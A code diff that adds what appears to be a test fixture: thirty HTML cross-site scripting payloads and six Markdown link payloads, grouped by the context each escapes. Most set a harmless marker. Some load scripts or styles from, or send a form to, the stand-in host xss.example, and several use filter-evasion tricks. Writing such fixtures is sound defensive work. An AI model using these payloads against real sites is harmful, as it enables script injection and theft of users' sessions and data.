@@ -1,0 +1,43 @@
+"""Thirty ways to get a script into a page, by the place that each of them breaks out of."""
+
+PAYLOADS = (
+    "<script>window.xss=1</script>",
+    "</script><script>window.xss=1</script>",
+    "</title><script>window.xss=1</script>",
+    "</textarea><script>window.xss=1</script>",
+    "<script src=//xss.example/x.js></script>",
+    "<ScRiPt>window.xss=1</sCrIpT >",
+    "<scr<script>ipt>window.xss=1</scr</script>ipt>",
+    "<img src=x onerror=window.xss=1>",
+    "<img src=x:x onerror\t=\twindow.xss=1//",
+    "<svg onload=window.xss=1>",
+    "<svg><animate onbegin=window.xss=1 attributeName=x dur=1s>",
+    "<svg/onload=&#119;indow.xss=1>",
+    "<math><mtext><style><img src=x onerror=window.xss=1></style></mtext></math>",
+    "<body onload=window.xss=1>",
+    "<details open ontoggle=window.xss=1>",
+    "<input autofocus onfocus=window.xss=1>",
+    "<iframe srcdoc='<script>parent.xss=1</script>'></iframe>",
+    "<iframe src=javascript:parent.xss=1></iframe>",
+    "<object data=javascript:window.xss=1></object>",
+    "<base href=//xss.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:window.xss=1'>",
+    "<a href=javascript:window.xss=1>xss</a>",
+    "<form action=//xss.example><input name=xss></form>",
+    "<style>@import '//xss.example/x.css';</style>",
+    '" onmouseover="window.xss=1" x="',
+    "' onmouseover='window.xss=1' x='",
+    '"><img src=x onerror=window.xss=1>',
+    "javascript:window.xss=1//",
+    "{{ 7|add:7 }}{% debug %}${window.xss=1}",
+    "<!--><img src=x onerror=window.xss=1>-->",
+)
+# The same for Markdown, which makes tags of its own.
+MARKDOWN = (
+    "[xss](javascript:window.xss=1)",
+    "[xss](java&#115;cript:window.xss=1)",
+    "[xss](data:text/html;base64,PHNjcmlwdD4x)",
+    '![xss](x"onerror="window.xss=1)',
+    "<javascript:window.xss=1>",
+    "[xss]: javascript:window.xss=1\n[xss]",
+)
